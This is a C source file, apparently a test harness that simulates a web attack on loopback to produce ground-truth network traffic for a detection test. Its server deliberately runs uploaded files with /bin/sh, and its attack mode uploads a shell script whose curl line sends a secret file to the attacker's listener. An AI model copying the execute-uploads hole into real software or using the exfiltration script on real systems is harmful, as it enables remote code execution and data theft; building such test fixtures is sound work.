// A web server that keeps uploads and, far too trusting, runs them; visitors; and an attacker, who uploads a shell script that
// sends a secret away. For the test of ranked chains: what they say to each other is the ground truth.
//   web_attack serve ROOT READY        tells its port by writing it to READY; ends on DELETE
//   web_attack visit PORT ADDRESS N    gets N pages, each over a connection of its own from ADDRESS
//   web_attack attack PORT ADDRESS SECRET
//   web_attack end PORT
// GET /N reads ROOT/pages/N, PUT /NAME writes ROOT/uploads/NAME, POST /NAME runs it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

enum { kPages = 50, kMost = 1 << 16 };

static void require(int holds, const char *what) {
    if (holds) return;
    perror(what);
    exit(1);
}

static struct sockaddr_in address_of(const char *host, int port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    require(inet_pton(AF_INET, host, &address.sin_addr) == 1, host);
    return address;
}

static int listen_at(const char *host, int *port) {
    struct sockaddr_in address = address_of(host, 0);
    socklen_t len = sizeof(address);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    require(bind(fd, (struct sockaddr *)&address, len) == 0, "bind");
    require(listen(fd, 64) == 0, "listen");
    require(getsockname(fd, (struct sockaddr *)&address, &len) == 0, "getsockname");
    *port = ntohs(address.sin_port);
    return fd;
}

static void send_all(int fd, const char *data, size_t size) {
    while (size > 0) {
        ssize_t sent = send(fd, data, size, MSG_NOSIGNAL);
        require(sent > 0, "send");
        data += sent;
        size -= (size_t)sent;
    }
}

// A whole request, ended by a NUL; where its body is.
static char *receive(int fd, char *request, size_t *size) {
    size_t have = 0, want = 0;
    char *body = NULL;
    while (!body || (size_t)(request + have - body) < want) {
        ssize_t got = recv(fd, request + have, kMost - 1 - have, 0);
        require(got > 0, "recv");
        have += (size_t)got;
        request[have] = 0;
        if (body || !(body = strstr(request, "\r\n\r\n"))) continue;
        body += 4;
        const char *length = strcasestr(request, "content-length:");
        if (length) want = strtoul(length + strlen("content-length:"), NULL, 10);
    }
    *size = want;
    return body;
}

static void answer(int fd, const char *body, size_t size) {
    char head[128];
    int len = snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n", size);
    send_all(fd, head, (size_t)len);
    send_all(fd, body, size);
}

static void serve_file(int connection, const char *path) {
    static char page[kMost];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? 0 : read(fd, page, sizeof(page));
    if (fd >= 0) close(fd);
    answer(connection, page, size > 0 ? (size_t)size : 0);
}

static void keep(const char *path, const char *body, size_t size) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    require(fd >= 0 && write(fd, body, size) == (ssize_t)size, path);
    close(fd);
}

static void run(const char *path) {
    pid_t child = fork();
    require(child >= 0, "fork");
    if (child == 0) {
        execl("/bin/sh", "sh", path, (char *)NULL);
        _exit(127);
    }
}

static int serve(const char *root, const char *ready) {
    static char request[kMost];
    char path[4096];
    int port = 0;
    int listener = listen_at("127.0.0.1", &port);
    FILE *told = fopen(ready, "we");
    require(told && fprintf(told, "%d\n", port) > 0 && fclose(told) == 0, ready);
    signal(SIGCHLD, SIG_IGN);
    for (int ends = 0; !ends;) {
        int connection = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
        require(connection >= 0, "accept");
        size_t size = 0;
        char *body = receive(connection, request, &size);
        char verb[16], name[256];
        require(sscanf(request, "%15s /%255[^ /]", verb, name) == 2, "request");
        int get = strcmp(verb, "GET") == 0;
        snprintf(path, sizeof(path), "%s/%s/%s", root, get ? "pages" : "uploads", name);
        if (get) {
            serve_file(connection, path);
        } else {
            if (strcmp(verb, "PUT") == 0) keep(path, body, size);
            if (strcmp(verb, "POST") == 0) run(path);
            ends = strcmp(verb, "DELETE") == 0;
            answer(connection, "ok", 2);
        }
        close(connection);
    }
    return 0;
}

static void ask(int port, const char *from, const char *verb, const char *name, const char *body) {
    static char text[kMost];
    struct sockaddr_in mine = address_of(from, 0), theirs = address_of("127.0.0.1", port);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    require(bind(fd, (struct sockaddr *)&mine, sizeof(mine)) == 0, "bind");
    require(connect(fd, (struct sockaddr *)&theirs, sizeof(theirs)) == 0, "connect");
    int len = snprintf(text, sizeof(text), "%s /%s HTTP/1.1\r\nHost: x\r\nContent-Length: %zu\r\n\r\n%s", verb, name,
                       strlen(body), body);
    send_all(fd, text, (size_t)len);
    while (recv(fd, text, sizeof(text), 0) > 0) {}
    close(fd);
}

static int visit(int port, const char *from, int count) {
    for (int i = 0; i < count; i++) {
        char name[16];
        snprintf(name, sizeof(name), "%d", i % kPages);
        ask(port, from, "GET", name, "");
    }
    return 0;
}

static int attack(int port, const char *from, const char *secret) {
    static char loot[kMost];
    char script[1024];
    int back = 0;
    int listener = listen_at(from, &back);
    snprintf(script, sizeof(script), "#!/bin/sh\n# %0200d\ncurl -s --noproxy '*' --data-binary @%s http://%s:%d/\n", 0, secret,
             from, back);
    ask(port, from, "PUT", "avatar.sh", script);
    ask(port, from, "POST", "avatar.sh", "");
    int connection = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
    require(connection >= 0, "accept");
    size_t size = 0;
    receive(connection, loot, &size);
    answer(connection, "", 0);
    printf("%d %zu\n", back, size);
    return size > 0 ? 0 : 1;
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "";
    if (argc == 4 && strcmp(mode, "serve") == 0) return serve(argv[2], argv[3]);
    if (argc == 5 && strcmp(mode, "visit") == 0) return visit(atoi(argv[2]), argv[3], atoi(argv[4]));
    if (argc == 5 && strcmp(mode, "attack") == 0) return attack(atoi(argv[2]), argv[3], argv[4]);
    if (argc == 3 && strcmp(mode, "end") == 0) {
        ask(atoi(argv[2]), "127.0.0.1", "DELETE", "server", "");
        return 0;
    }
    fputs("usage: web_attack serve ROOT READY | visit PORT ADDRESS N | attack PORT ADDRESS SECRET | end PORT\n", stderr);
    return 2;
}
